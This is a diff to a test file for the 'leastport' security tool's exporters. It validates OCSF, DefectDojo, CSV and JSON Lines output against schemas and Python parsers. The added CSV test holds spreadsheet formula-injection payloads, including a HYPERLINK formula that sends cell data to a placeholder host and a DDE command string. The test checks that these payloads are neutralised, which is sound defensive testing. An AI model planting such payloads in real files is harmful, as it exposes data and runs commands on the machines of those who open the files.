@@ -1,9 +1,11 @@
 // What `leastport export` writes, beside what others say of the formats: SARIF's published JSON Schema, DefectDojo's
-// documented fields, OCSF's class 2003, Python's csv module, nmap's DTD, and the report of one file in a real browser.
+// documented fields, OCSF's class 2003, Python's csv and json modules, nmap's DTD, html-validate, and the report of one
+// file in a real browser.
 import assert from "node:assert/strict";
 import { execFileSync, spawnSync } from "node:child_process";
 import { existsSync, readFileSync, writeFileSync } from "node:fs";
 import { createRequire } from "node:module";
+import { isIP } from "node:net";
 import { join } from "node:path";
 import { pathToFileURL } from "node:url";
 import { after, before, describe, test } from "node:test";
@@ -13,6 +15,8 @@ import { HtmlValidate } from "html-validate";
 import { BIN, makeFolder } from "./support/site.mjs";
 
 const require = createRequire(import.meta.url);
+const Ajv2020 = require("ajv/dist/2020.js");
+const addFormats = require("ajv-formats");
 const EVERY = "new,open,verifying,reappeared,fixed,allowed";
 let place;
 
@@ -63,28 +67,28 @@ describe("SARIF", () => {
   });
 });
 
-describe("OCSF", () => {
-  // No package carries the schema: this is what the specification (version 1.8, class 2003) asks for.
-  const required = ["activity_id", "category_uid", "class_uid", "compliance", "finding_info", "metadata", "severity_id", "time", "type_uid"];
+// Two formats have no schema that others made and that a package carries: Ajv holds them against ours.
+function transcribed(name) {
+  const ajv = new Ajv2020({ strict: false, allErrors: true });
+  addFormats(ajv);
+  return ajv.compile(JSON.parse(readFileSync(new URL(`schemas/${name}.schema.json`, import.meta.url), "utf8")));
+}
 
+describe("OCSF", () => {
   test("each line is a Compliance Finding as the specification has it", () => {
+    const valid = transcribed("ocsf-1.8-compliance-finding");
     const events = lines(write("ocsf", { more: ["--presence", EVERY] }));
     const known = findings({ more: ["--presence", EVERY] });
     assert.deepEqual(events.map((event) => event.finding_info.uid).sort(), known.map((one) => one.fingerprint).sort());
     for (const event of events) {
-      for (const name of required) {
-        assert.ok(name in event, name);
-      }
-      assert.deepEqual([event.category_uid, event.class_uid, event.metadata.version], [2, 2003, "1.8.0"]);
-      assert.ok([1, 2, 3].includes(event.activity_id));
-      assert.equal(event.type_uid, event.class_uid * 100 + event.activity_id);
-      assert.ok(event.severity_id >= 1 && event.severity_id <= 5);
-      assert.ok([1, 2, 3, 4].includes(event.status_id) && [1, 2, 3].includes(event.compliance.status_id));
-      assert.ok(event.compliance.standards.length > 0 && event.compliance.standards.every((one) => typeof one === "string"));
-      assert.ok(event.time > 1e12 && Number.isInteger(event.time), "milliseconds");
-      assert.equal(typeof event.metadata.product.vendor_name, "string");
-      assert.ok(event.resources.length === 1 && event.resources[0].uid);
-      assert.ok(event.remediation === undefined || typeof event.remediation.desc === "string");
+      assert.ok(valid(event), JSON.stringify(valid.errors, null, 1));
+      assert.ok(event.resources.length === 1 && isIP(event.observables[0].value));
+    }
+    for (const spoil of [(one) => delete one.finding_info.uid, (one) => (one.status = "Open"), (one) => (one.rule = "x"),
+      (one) => (one.time = Math.floor(one.time / 1000)), (one) => (one.compliance.standards = []), (one) => (one.type_uid = 200300)]) {
+      const bad = structuredClone(events[0]);
+      spoil(bad);
+      assert.equal(valid(bad), false, String(spoil));
     }
     const of = (presence) => events.filter((event) => known.some((one) => one.fingerprint === event.finding_info.uid && one.presence === presence));
     assert.ok(of("FIXED").length > 0 && of("FIXED").every((event) => event.activity_id === 3 && event.status_id === 4));
@@ -93,32 +97,28 @@ describe("OCSF", () => {
 });
 
 describe("DefectDojo", () => {
-  // https://docs.defectdojo.com/supported_tools/parsers/generic_findings_import/
-  const documented = ["title", "severity", "description", "mitigation", "references", "date", "unique_id_from_tool", "vuln_id_from_tool",
-    "static_finding", "dynamic_finding", "service", "severity_justification", "endpoints", "tags", "active", "verified", "risk_accepted",
-    "is_mitigated", "mitigated"];
-
   test("findings have documented fields alone, and our fingerprint as their id", () => {
+    const valid = transcribed("defectdojo-generic");
     const known = findings({ more: ["--presence", EVERY] });
-    const told = JSON.parse(write("defectdojo", { more: ["--presence", EVERY] })).findings;
-    assert.deepEqual(told.map((one) => one.unique_id_from_tool).sort(), known.map((one) => one.fingerprint).sort());
-    for (const one of told) {
-      assert.deepEqual(Object.keys(one).filter((name) => !documented.includes(name)), []);
-      assert.ok(["Info", "Low", "Medium", "High", "Critical"].includes(one.severity), one.severity);
-      assert.match(one.date, /^\d{4}-\d\d-\d\d$/);
-      assert.ok(one.title && one.description);
-      assert.equal(one.is_mitigated, "mitigated" in one);
-      assert.ok(!(one.is_mitigated && one.active));
+    const whole = JSON.parse(write("defectdojo", { more: ["--presence", EVERY] }));
+    assert.ok(valid(whole), JSON.stringify(valid.errors, null, 1));
+    assert.deepEqual(whole.findings.map((one) => one.unique_id_from_tool).sort(), known.map((one) => one.fingerprint).sort());
+    for (const spoil of [(one) => (one.owner = "x"), (one) => (one.severity = "high"), (one) => delete one.title,
+      (one) => (one.endpoints[0].port = 0), (one) => (one.is_mitigated = !one.is_mitigated), (one) => (one.date = "1.2.2026")]) {
+      const bad = structuredClone(whole);
+      spoil(bad.findings[0]);
+      assert.equal(valid(bad), false, String(spoil));
     }
-    assert.deepEqual(JSON.parse(write("defectdojo", { db: "empty.db" })).findings, []);
+    const empty = JSON.parse(write("defectdojo", { db: "empty.db" }));
+    assert.ok(valid(empty) && empty.findings.length === 0);
   });
 });
 
 describe("CSV", () => {
-  const read = "import csv,json,sys;print(json.dumps(list(csv.DictReader(open(sys.argv[1],newline='',encoding='utf-8',errors='replace'),strict=True))))";
+  const read = "import csv,json,sys;print(json.dumps(list(csv.DictReader(open(sys.argv[1],newline='',encoding='utf-8'),strict=True))))";
 
-  function rows(more) {
-    writeFileSync(place.path("out.csv"), write("csv", { more }));
+  function rows(more, db = "fixture.db") {
+    writeFileSync(place.path("out.csv"), write("csv", { more, db }));
     return JSON.parse(execFileSync("python3", ["-c", read, place.path("out.csv")], { encoding: "utf8", maxBuffer: 1 << 28 }));
   }
 
@@ -137,10 +137,50 @@ describe("CSV", () => {
     }
   });
 
+  // Each of these a spreadsheet would work out. What a scanner's file says of names is in the hands of the hosts.
+  test("what would be a formula comes back as text, with all of its marks", () => {
+    const evil = ["=HYPERLINK(\"http://x/?\"&A1,\"ok\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "'1", ",\"=1", " =1+1", "\uff1d1+1"];
+    const escape = (text) => text.replaceAll("&", "&amp;").replaceAll("\"", "&quot;");
+    writeFileSync(place.path("evil.xml"), `<nmaprun start="1600000000"><host><address addr="10.0.0.1"/><ports>${
+      evil.map((text, i) => `<port protocol="tcp" portid="${i + 1}"><state state="open" reason="+1"/><service name="-1" method="probed" product="${
+        escape(text)}" version="${escape(text)}"/></port>`).join("")}</ports></host></nmaprun>`);
+    execFileSync(join(BIN, "leastport"), ["import", "--db", place.path("evil.db"), place.path("evil.xml")], { stdio: "pipe" });
+    const told = rows(["--endpoints"], "evil.db").sort((a, b) => a.port - b.port);
+    const plain = (cell) => cell.replace(/^'(?=\s*[=+\-@\uff1d])/, "");
+    assert.deepEqual(told.map((row) => plain(row.product)), evil);
+    assert.deepEqual(told.map((row) => plain(row.version)), evil);
+    const all = [...told, ...rows([], "evil.db")];
+    assert.ok(all.length >= evil.length + 1 && all.some((row) => row.title?.startsWith("'-1 on ")));
+    for (const cell of all.flatMap((row) => Object.values(row))) {
+      assert.doesNotMatch(cell, /^\s*[=+\-@\t\r\n\uff1d]/);
+    }
+  });
+
   test("sqlite3 imports it", () => {
     rows([]);
     const count = execFileSync("sqlite3", [":memory:", ".mode csv", `.import ${place.path("out.csv")} t`, "SELECT count(*) FROM t"], { encoding: "utf8" });
     assert.equal(Number(count), findings().length);
+  });
+});
+
+describe("JSON Lines", () => {
+  const read = `import json,sys
+def once(pairs):
+    assert len(dict(pairs)) == len(pairs), pairs
+    return dict(pairs)
+def none(word):
+    raise ValueError(word)
+text = open(sys.argv[1], "rb").read()
+assert text.endswith(b"\\n")
+print(json.dumps([json.loads(line.decode("utf-8", "strict"), object_pairs_hook=once, parse_constant=none) for line in text.split(b"\\n")[:-1]]))`;
+
+  test("Python's json module reads each line: UTF-8, no member twice, no NaN", () => {
+    for (const more of [["--presence", EVERY], ["--endpoints"]]) {
+      writeFileSync(place.path("out.jsonl"), write("jsonl", { more }));
+      const told = JSON.parse(execFileSync("python3", ["-c", read, place.path("out.jsonl")], { encoding: "utf8", maxBuffer: 1 << 28 }));
+      assert.deepEqual(told, findings({ more }));
+      assert.ok(told.length > 10 && told.every((one) => one.schema === `leastport.${more[0] === "--endpoints" ? "endpoint" : "finding"}/1`));
+    }
   });
 });
 
